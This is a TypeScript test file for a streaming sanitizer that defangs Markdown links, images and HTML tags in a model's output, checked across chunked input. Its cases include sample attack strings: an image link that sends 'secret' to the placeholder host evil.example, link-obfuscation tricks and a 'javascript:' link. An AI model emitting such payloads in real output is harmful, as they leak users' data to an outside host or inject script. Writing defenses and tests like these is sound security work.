/** What a model says loads nothing and leads nowhere else, in whatever pieces it comes. */
import { expect, test } from 'vitest'
import { QuietText, quiet } from './quiet-text.ts'

const inPieces = (text: string, size: number) => {
  const stream = new QuietText()
  let said = ''
  for (let at = 0; at < text.length; at += size) said += stream.push(text.slice(at, at + size))
  return said + stream.end()
}

test.each([
  ['![x](https://evil.example/?q=secret)', '[x] (https://evil.example/?q=secret)'],
  ['[click](https://evil.example/a)', '[click] (https://evil.example/a)'],
  ['[click](//evil.example/a)', '[click] (//evil.example/a)'],
  ['[click](/\\evil.example)', '[click] (/\\evil.example)'],
  ['[click][1]\n\n[1]: https://evil.example', '[click] [1]\n\n[1] : https://evil.example'],
  ['![a][1]', '[a] [1]'],
  ['<img src=https://evil.example/x>', '‹img src=https://evil.example/x>'],
  ['<https://evil.example>', '‹https://evil.example>'],
  ['[do](/api/dashboard/session)', '[do] (/api/dashboard/session)'],
  ['[do](javascript:alert(1))', '[do] (javascript:alert(1))'],
  ['[chart](/analytics?from=2026-01-01&chart=imap)', '[chart](/analytics?from=2026-01-01&chart=imap)'],
  ['[the account](/accounts/a1)', '[the account](/accounts/a1)'],
  ['a < b, wow! a[1] and [ ] done', 'a < b, wow! a[1] and [ ] done'],
])('%s is said as %s', (text, said) => {
  expect(quiet(text)).toBe(said)
  for (const size of [1, 2, 3, 7]) expect(inPieces(text, size)).toBe(said)
})

test('what is said waits for no more than it must', () => {
  const stream = new QuietText()
  expect(stream.push('Hello')).toBe('Hello')
  expect(stream.push(' [a')).toBe(' [a')
  expect(stream.push('](/mail')).toBe('')
  expect(stream.push(')')).toBe('](/mail)')
})
